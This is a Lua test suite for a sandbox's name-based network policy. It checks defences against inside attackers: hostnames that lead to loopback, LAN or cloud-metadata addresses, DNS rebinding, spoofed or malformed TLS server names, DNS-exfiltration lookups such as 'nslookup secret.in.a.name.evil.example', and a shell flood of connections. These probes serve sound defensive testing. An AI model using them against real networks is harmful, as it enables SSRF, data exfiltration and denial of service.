-- @runs native-root native-user
-- A network by names that is attacked from inside: names that lead where they must not, another name
-- in TLS, ports of the name service, floods.
local axo = require "axosandbox"
local e2e = require "spec.support.e2e"
local net = require "spec.support.net"
local resolve = require "axosandbox.network.names.resolve"
local uv = require "luv"

-- Where names lead to: the resolver of this machine is not asked.
local LEADS = {
  ["lo.example"] = { "127.0.0.1" }, ["lo6.example"] = { "::1" }, ["any.example"] = { "0.0.0.0" },
  ["meta.example"] = { "169.254.169.254" }, ["lan.example"] = { "192.168.1.1", "10.0.0.1" },
  ["mapped.example"] = { "::ffff:127.0.0.1" }, ["nat64.example"] = { "64:ff9b::7f00:1" },
  ["rebound.example"] = { "169.254.169.254", "127.0.0.1" },
}

local function u16(n) return string.pack(">I2", n) end
local function sized(bytes) return u16(#bytes) .. bytes end

local function entry(name) return "\0" .. sized(name) end

-- A ClientHello, with that server name or with none, or with the list of them that is given.
local function hello(name, list)
  list = list or name and entry(name)
  local extensions = list and u16(0) .. sized(sized(list)) or ""
  local body = "\3\3" .. ("r"):rep(32) .. "\0" .. sized "\x13\x01" .. "\1\0" .. sized(extensions)
  local handshake = "\1" .. string.pack(">I3", #body) .. body
  return "\22\3\1" .. sized(handshake)
end

describe("a network by names that is attacked", function()
  e2e.housekeeping(_ENV)

  local server, sb, look_up, asked

  setup(function()
    server, asked, look_up = net.serve(), {}, resolve.look_up
    resolve.look_up = function(name, done)
      asked[#asked + 1] = name
      local found = {}
      for _, text in ipairs(LEADS[name] or {}) do found[#found + 1] = { addr = text } end
      axo.async.defer(function() done(not found[1] and "ENOENT" or nil, found) end)
    end
    local list = { "tls.example", "gone.example", "*.wild.example:80",
      ("127.0.0.1:%d"):format(server.port), ("rebound.example:%d"):format(server.port) }
    for name in pairs(LEADS) do list[#list + 1] = name .. ":80" end
    sb = e2e.start { policy = {
      network = { allow = list },
      egress = function(request, default)
        local verdict = default(request)
        if verdict.allow and (request.name == "tls.example" or request.name:find "wild") then
          verdict.dial = ("127.0.0.1:%d"):format(server.port)
        end
        return verdict
      end,
    } }
  end)

  teardown(function()
    resolve.look_up = look_up
    assert(sb:stop())
    server.close()
  end)

  local function sh(command) return assert(sb:exec({ "sh", "-c", command }, { timeout = 60 })) end
  local function say(name, port, bytes)
    return assert(sb:exec_stdin({ "nc", name, tostring(port) }, bytes, { timeout = 60 }))
  end

  it("leads to no address that is not public, whatever its name", function()
    local before = server.count
    for _, name in ipairs { "lo.example", "lo6.example", "any.example", "meta.example",
      "lan.example", "mapped.example", "nat64.example" } do
      local r = say(name, 80, "GET /\r\n\r\n")
      assert.equal("", r.stdout)
      assert.same({ name, 80, "axosandbox" },
        { r.denied[1].name, r.denied[1].port, r.denied[1].by })
      assert.matches("it leads to .*, which is .*, and no entry of allow holds", r.denied[1].reason)
    end
    assert.equal(before, server.count)
  end)

  it("leads to a listed address, and passes over what else a name says", function()
    assert.matches("hello", say("rebound.example", server.port, "GET /\r\n\r\n").stdout)
    assert.equal("rebound.example", say("rebound.example", 80, "GET /\r\n\r\n").denied[1].name)
  end)

  it("lets TLS through only with the name that was dialled", function()
    local before = server.count
    assert.matches("hello", say("tls.example", 443, hello "tls.example").stdout)
    assert.equal(hello "tls.example", server.said)
    assert.equal(before + 1, server.count)
    for _, name in ipairs { "evil.example", "xtls.example", "tls.example.evil.example", false } do
      local r = say("tls.example", 443, hello(name))
      assert.equal("", r.stdout)
      assert.same({ "tls.example", 443 }, { r.denied[1].name, r.denied[1].port })
      assert.matches(name or "without a server name", r.denied[1].reason, 1, true)
    end
    assert.equal(before + 1, server.count)
    -- What a server may read, or pass over, and is not read here.
    local evil = hello "evil.example"
    for how, bytes in pairs {
      ["a warning first"] = "\21\3\1\0\2\1\0" .. evil, ["another version"] = "\22\4" .. evil:sub(3),
      ["another type of name first"] = hello(nil, "\1" .. sized "x" .. entry "evil.example"),
      ["two names"] = hello(nil, entry "tls.example" .. entry "evil.example"),
      ["too long"] = hello("evil.example" .. ("."):rep(17000)), ["SSL 2"] = "\128\46\1\3\1",
    } do
      local r = say("tls.example", 443, bytes)
      assert.equal("", r.stdout, how)
      assert.matches("cannot be read", r.denied[1].reason, 1, true)
    end
    assert.equal(before + 1, server.count)
    -- What is no TLS goes to the name all the same.
    assert.matches("hello", say("tls.example", 443, "GET / HTTP/1.0\r\n\r\n").stdout)
  end)

  it("says nothing to this machine's resolver about what is not reached", function()
    asked = {}
    sh "nslookup secret.in.a.name.evil.example; nslookup -type=txt x.evil.example"
    sh "nslookup secret.wild.example; nslookup gone.example"
    assert.same({}, asked)
    local r = say("gone.example", 80, "x")
    assert.equal("", r.stdout)
    assert.is_nil(r.denied)
    assert.same({ "gone.example" }, asked)
  end)

  it("keeps the ports of its services to itself", function()
    -- The port of 127.0.0.1 that answers names is taken, and cannot be shared.
    local listening = assert(sb:listening())
    assert.same({}, listening)
    local r = sh "nslookup -type=a evil.example; nslookup -type=a tls.example"
    assert.matches("198%.18%.", r.stdout)
    -- A name service of the container's own is asked by nobody else.
    local task = assert(sb:spawn_background "nc -u -l -p 53")
    assert.matches("198%.18%.", sh("nslookup -type=a tls.example").stdout)
    assert(task:stop())
  end)

  it("survives a flood of connections, of names and of what is no question", function()
    local function count()
      local entries, n = assert(uv.fs_scandir "/proc/self/fd"), 0
      while uv.fs_scandir_next(entries) do n = n + 1 end
      return n
    end
    local before = count()
    local r = sh [[
      i=0; while [ $i -lt 200 ]; do nc tls.example 80 </dev/null & nc 9.9.9.9 80 </dev/null &
        nslookup n$i.evil.example >/dev/null & nslookup n$i.wild.example >/dev/null &
        echo garbage | nc -u -w 1 198.18.0.1 53 & i=$((i+1)); done >/dev/null 2>&1; wait]]
    assert.is_true(#r.denied <= 64)
    assert.matches("hello", say("tls.example", 443, hello "tls.example").stdout)
    e2e.eventually(function() return next(server.open) == nil and #sb:connections() == 0 end)
    e2e.eventually(function() return count() <= before + 130 end) -- idle pipes are kept
  end)

  it("has so many listeners, and no more, where names are served by them", function()
    local before = os.getenv "AXOSANDBOX_NAMES"
    uv.os_setenv("AXOSANDBOX_NAMES", "listeners")
    local box, problem = e2e.start { policy = { network = { allow = { "*.wild.example" } } } }
    uv.os_unsetenv "AXOSANDBOX_NAMES"
    if before then uv.os_setenv("AXOSANDBOX_NAMES", before) end
    assert(box, problem)
    local r = assert(box:exec({ "sh", "-c", "for i in $(seq 150); do "
      .. "nslookup -type=a l$i.wild.example >/dev/null & done; wait" }, { timeout = 60 }))
    assert.equal(0, r.code)
    -- Many ask at once; each name has two ports.
    assert.equal(128, #box.way.network.server.listeners)
    assert(box:stop())
  end)
end)
